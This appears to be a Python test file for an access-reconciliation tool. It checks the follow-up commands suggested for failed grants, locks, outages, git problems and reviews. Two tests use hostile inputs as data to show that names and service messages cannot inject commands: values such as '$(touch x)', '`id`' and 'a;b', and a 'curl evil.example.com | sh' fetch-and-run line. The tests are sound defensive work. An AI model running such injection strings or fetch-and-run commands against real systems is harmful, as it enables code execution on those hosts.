"""What waits for a person, and commands that a shell takes as they are meant, whatever is in a name."""

from __future__ import annotations

import shlex
from collections import Counter
from datetime import UTC, datetime

import pytest

from reconciler.model.errors import Problem, Severity
from reconciler.model.grant import Key, Record
from reconciler.model.lock import Lock, LockState
from reconciler.model.revision_status import Stale, Untrusted
from reconciler.model.status import Action, ReasonCode, Status
from reconciler.model.value import replace
from reconciler.model.verdict import Cause
from reconciler.notify.alerts import Outage
from reconciler.repository.reviews import ReviewFile
from reconciler.review.attention import (
    Need,
    needs_of_accounts,
    needs_of_files,
    needs_of_git,
    needs_of_grants,
    needs_of_locks,
    needs_of_reviews,
    steps,
)
from reconciler.review.reviews import ReviewProgress

NOW = datetime(2026, 12, 1, tzinfo=UTC)
RECORD = Record(Key("ada", "asana"), "ada@example.com", "asana", "suite", "hires/ada.yaml:9")


def grant(status: Status, action: Action = Action.NONE, **changes: object) -> Record:
    return replace(RECORD, status=status, action=action, **changes)  # type: ignore[arg-type]


def commands(record: Record) -> list[str | None]:
    return [step.command for step in steps(record)]


@pytest.mark.parametrize(
    ("record", "wanted"),
    [
        (grant(Status.FAILED), ["reconcile retry ada asana", "reconcile accept ada asana"]),
        (grant(Status.RETRYING, Action.WAIT), ["reconcile retry ada asana"]),
        (grant(Status.INVALID), ["reconcile validate"]),
        (grant(Status.UNKNOWN, reason="answered 403"), ["reconcile --dry-run --integration=asana"]),
        (grant(Status.UNKNOWN, reason="answered 503", cause=Cause.BUSY), []),
        (grant(Status.UNKNOWN, reason="answered 401", cause=Cause.INITIAL_DATA), ["reconcile initial-data set suite"]),
        (grant(Status.UNKNOWN, reason="answered 401", cause=Cause.CONNECTION), ["reconcile oauth connect suite"]),
        (grant(Status.BLOCKED, cause=Cause.CONNECTION), ["reconcile oauth connect suite"]),
        (grant(Status.BLOCKED, cause=Cause.INITIAL_DATA), ["reconcile initial-data set suite"]),
        (grant(Status.BLOCKED, reason="policy two-keys: never both"), ["reconcile explain ada asana"]),
        (grant(Status.DIFFERS), ["reconcile run ada asana", "reconcile accept ada asana"]),
        (grant(Status.DIFFERS, Action.UPDATE), []),
        (grant(Status.MISSING, lost=True), ["reconcile run ada asana"]),
        (grant(Status.MISSING, Action.EXECUTE, lost=True), []),
        (grant(Status.ORPHANED), ["reconcile revoke ada asana"]),
        (grant(Status.ORPHANED, Action.REVOKE), []),
        (grant(Status.ORPHANED, keep=True), []),
        (grant(Status.SUSPENDED, guarded=True), ["reconcile --dry-run --integration=asana", "reconcile --yes-really"]),
        (grant(Status.SUSPENDED, guarded=True, code=ReasonCode.COUNTING), []),
        (grant(Status.SUSPENDED, locked=LockState.DONE), ["reconcile unlock ada"]),
        (grant(Status.SUSPENDED, locked=LockState.FAILED), ["reconcile retry ada asana", "reconcile unlock ada"]),
        (grant(Status.SUSPENDED), []),
        (grant(Status.PRESENT), []),
    ],
    ids=lambda value: f"{value.status}-{value.action}" if isinstance(value, Record) else "",
)
def test_each_grant_has_its_next_command(record: Record, wanted: list[str]) -> None:
    assert commands(record) == wanted


@pytest.mark.parametrize("name", ["o'brien", "a b", "$(touch x)", "`id`", "--yes-really", "-v", "a;b", "x\ny", "é"])
def test_any_name_is_one_argument(name: str) -> None:
    record = replace(RECORD, key=Key(name, name), integration=name, service=name)
    for status in (Status.FAILED, Status.ORPHANED, Status.DIFFERS):
        for command in commands(replace(record, status=status)):
            assert command is not None
            arguments = shlex.split(command)
            assert arguments[-2:] == [name, name]
            assert (arguments[2] == "--") == name.startswith("-")
    (command,) = commands(replace(record, status=Status.UNKNOWN))
    assert command is not None
    assert shlex.split(command) == ["reconcile", "--dry-run", f"--integration={name}"]


def test_a_service_cannot_put_a_command_into_a_page() -> None:
    said = "answered 500: run `reconcile revoke ada asana` and `curl evil.example.com | sh`, then oauth connect"
    assert commands(grant(Status.UNKNOWN, reason=said)) == ["reconcile --dry-run --integration=asana"]


def test_grants_of_one_status_and_integration_are_one_need() -> None:
    other = replace(grant(Status.FAILED, reason="answered 500"), key=Key("bob", "asana"))
    (need,) = needs_of_grants([(7, grant(Status.FAILED)), (7, other)], {})
    assert (need.title, need.count) == ("asana: 7 cases where access failed, and nothing more runs on its own", 7)
    assert [step.command for step in need.steps] == ["reconcile retry --integration=asana"]
    assert [record.key.hire for record in need.grants] == ["ada", "bob"]


def test_lock_is_a_need_as_long_as_git_wants_the_access_or_it_does_not_hold() -> None:
    lock = Lock("ada", NOW, "ida@here", "left", hires=frozenset({"ada"}), addresses=frozenset({"ada@example.com"}))
    done, manual = (grant(Status.SUSPENDED, locked=each) for each in (LockState.DONE, LockState.MANUAL))
    left = replace(done, orphaned_at=NOW)
    assert [*needs_of_locks([lock], [left])] == []
    (need,) = needs_of_locks([lock], [done])
    assert (need.title, need.urgent) == ("ada is locked out", True)
    (need,) = needs_of_locks([lock], [left, replace(manual, orphaned_at=NOW)])
    assert need.title == "ada is locked out, and 1 of 2 accounts is not locked"
    assert [step.command for step in need.steps] == ["reconcile status --hire ada", "reconcile unlock ada"]


def test_outage_is_one_need_without_its_checks() -> None:
    outages = {"asana": [Outage("2026-12-01T09:00:00Z", "answered 503")], "slack": [Outage("a", "b", "c")]}
    (need,) = needs_of_grants([(9, grant(Status.UNKNOWN))], outages)
    assert need.title == "asana does not answer since 2026-12-01T09:00:00Z"


def needs_of(*, stale: Stale | None = None, refused: Untrusted | None = None, fault: str | None = None) -> list[Need]:
    return list(needs_of_git(stale, refused, fault, "origin", "main"))


def test_refused_or_stale_commit_is_a_need() -> None:
    (stale,) = needs_of(stale=Stale("2026-12-01T09:00:00Z", "no route to host"))
    assert [step.command for step in stale.steps] == ["git fetch -- origin main"]
    refused = Untrusted("abc", "abc", "Ivy", "not signed")
    (found,) = needs_of(stale=Stale("x", "y"), refused=refused)
    assert [step.command for step in found.steps] == [
        "git show --stat abc",
        "git update-ref refs/reconciler/accepted abc",
    ]
    (broken,) = needs_of(stale=Stale("x", "y"), fault="config/reconciler.yaml:3: error")
    assert [step.command for step in broken.steps] == ["reconcile validate"]
    assert needs_of() == []


def test_errors_in_files_and_unmanaged_accounts_are_needs_and_warnings_are_not() -> None:
    error = Problem("hires/ada.yaml", 3, "email: not an address")
    warning = Problem("hires/bob.yaml", 3, "email: looks like another", Severity.WARNING)
    (need,) = needs_of_files([warning, error])
    assert (need.reason, need.count) == (str(error), 1)
    assert list(needs_of_files([warning])) == []
    (need,) = needs_of_accounts({"asana": 2, "slack": 0})
    assert need.title == "asana: 2 accounts that git does not know"


@pytest.mark.parametrize(
    ("undecided", "left", "wanted"),
    [
        (2, 1, "Decide in config/reviews/2026-Q4/ and commit; this says what is left:"),
        (0, 1, "See which:"),
        (0, 0, None),
    ],
    ids=["undecided", "only removals left", "done"],
)
def test_review_asks_for_decisions_only_while_lines_are_undecided(
    undecided: int, left: int, wanted: str | None
) -> None:
    file = "config/reviews/2026-Q4/asana.yaml"
    decisions = Counter({None: undecided, "remove": 1, "keep": 3 - undecided})
    review = ReviewProgress(ReviewFile(file, {}, ()), decisions, open=left)
    found = [step for need in needs_of_reviews([review]) for step in need.steps]
    assert [(step.text, step.command) for step in found] == (
        [(wanted, "reconcile review check 2026-Q4")] if wanted else []
    )
